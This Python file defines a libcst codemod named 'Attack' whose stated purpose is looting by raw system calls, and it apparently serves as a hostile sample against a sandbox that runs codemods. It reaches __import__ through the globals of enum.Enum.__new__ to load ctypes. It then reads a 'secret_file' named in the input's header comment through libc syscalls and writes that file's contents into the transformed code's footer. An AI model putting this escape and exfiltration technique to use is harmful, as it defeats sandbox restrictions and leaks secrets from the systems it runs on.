"""Find ``ctypes`` through the builtins of a class that ``enum`` made, and read the file by the C library."""

import ast
import enum

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


def read(path):
    bring = enum.Enum.__new__.__globals__["__builtins__"]["__import__"]
    ctypes = bring("ctypes")
    libc = ctypes.CDLL(None)
    room = ctypes.create_string_buffer(4096)
    libc.syscall(0, libc.open(path.encode(), 0), room, 4096)
    return room.value.decode().strip()


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Loot by raw system calls."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        loot = read(target["secret_file"])
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment(f"# {loot}"))])
